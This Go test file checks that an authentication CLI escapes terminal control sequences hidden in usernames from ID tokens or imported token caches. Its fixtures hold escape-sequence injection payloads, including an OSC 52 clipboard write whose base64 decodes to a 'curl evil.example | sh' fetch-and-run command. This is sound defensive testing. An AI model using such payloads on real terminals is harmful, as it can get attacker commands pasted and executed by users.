package main

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/hexauth/hexauth/app"
	"github.com/hexauth/hexauth/domain"
)

// TestReview4_AccountTextCannotDriveTheTerminal: a username comes from an ID token (the
// provider's preferred_username, upn or email, which some providers let a user choose)
// or from an imported MSAL document (a colleague's cache file, a synced one), and the
// text outputs print it to the terminal. An escape sequence in it must not reach the
// terminal raw: OSC 52 writes the clipboard (the next paste runs the attacker's
// command), OSC 0 retitles the window, CSI sequences rewrite or hide lines already
// printed ("removed alice" overwritten by "removed nobody"). The JSON outputs escape
// control characters already (encoding/json); the text outputs printed them as they
// came.
func TestReview4_AccountTextCannotDriveTheTerminal(t *testing.T) {
	doc, err := os.ReadFile(javaSample)
	if err != nil {
		t.Fatal(err)
	}
	const evil = `John\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\u001b[2K\rDoe`
	crafted := strings.Replace(string(doc), `"John Doe"`, `"`+evil+`"`, 1)
	if crafted == string(doc) {
		t.Fatal("fixture: the sample's username was not replaced")
	}
	path := filepath.Join(t.TempDir(), "crafted.json")
	if err := os.WriteFile(path, []byte(crafted), 0o600); err != nil {
		t.Fatal(err)
	}
	env := sampleEnv(t.TempDir())
	if r := runInProcess(t, invocation{args: []string{"cache", "import", path}, env: env}); r.code != exitOK {
		t.Fatalf("cache import: got %s", r)
	}
	// A second account of the same name (another home account id), so that a command
	// picking an account by name lists both in its error.
	twin := filepath.Join(t.TempDir(), "twin.json")
	if err := os.WriteFile(twin, []byte(strings.ReplaceAll(crafted, "uid.utid", "uid2.utid")), 0o600); err != nil {
		t.Fatal(err)
	}
	if r := runInProcess(t, invocation{args: []string{"cache", "import", twin}, env: env}); r.code != exitOK {
		t.Fatalf("cache import: got %s", r)
	}
	r := runInProcess(t, invocation{args: []string{"token", "--scopes", "read"}, env: env})
	if r.code != exitUsage || !strings.Contains(r.stderr, "2 accounts match") {
		t.Fatalf("token with two cached accounts: got %s; want the usage error naming both", r)
	}
	if strings.ContainsAny(r.stdout+r.stderr, "\x1b\x07\r") {
		t.Errorf("token's ambiguity error printed a control character of a username to the terminal: %q", r.stderr)
	}
	for _, args := range [][]string{{"accounts", "list"}, {"logout", "--all"}} {
		r := runInProcess(t, invocation{args: args, env: env})
		if r.code != exitOK {
			t.Fatalf("%v: got %s", args, r)
		}
		if out := r.stdout + r.stderr; strings.ContainsAny(out, "\x1b\x07\r") {
			t.Errorf("%v printed a control character of the username to the terminal: %q", args, out)
		} else if !strings.Contains(r.stdout, "John") {
			t.Errorf("%v: stdout %q; want the account listed (escaped)", args, r.stdout)
		}
	}
}

// TestReview4_TokenNoticeCannotDriveTheTerminal: the notice beside a token names the
// account's username, an ID token claim the provider (or the user, where it lets
// users choose it) controls; it is printed escaped.
func TestReview4_TokenNoticeCannotDriveTheTerminal(t *testing.T) {
	var stdout, stderr bytes.Buffer
	now := time.Date(2026, 12, 5, 0, 0, 0, 0, time.UTC)
	p := printer{e: &env{stdout: &stdout, stderr: &stderr}, now: func() time.Time { return now }}
	for _, res := range []app.AuthResult{
		{AccessToken: "at", ExpiresOn: now.Add(time.Hour), Scopes: []string{"read"}},
		{IDToken: "idt", ExpiresOn: now.Add(time.Hour), For: domain.ForIDToken},
	} {
		res.Account.Username = "ada\x1b]0;pwned\x07\x1b[1A\x1b[2K"
		p.token(res)
	}
	if strings.ContainsAny(stderr.String(), "\x1b\x07") {
		t.Fatalf("the token notice printed the username's control characters: %q", stderr.String())
	}
	if !strings.Contains(stderr.String(), "token for ada") {
		t.Fatalf("stderr %q; want the notice naming the (escaped) username", stderr.String())
	}
}
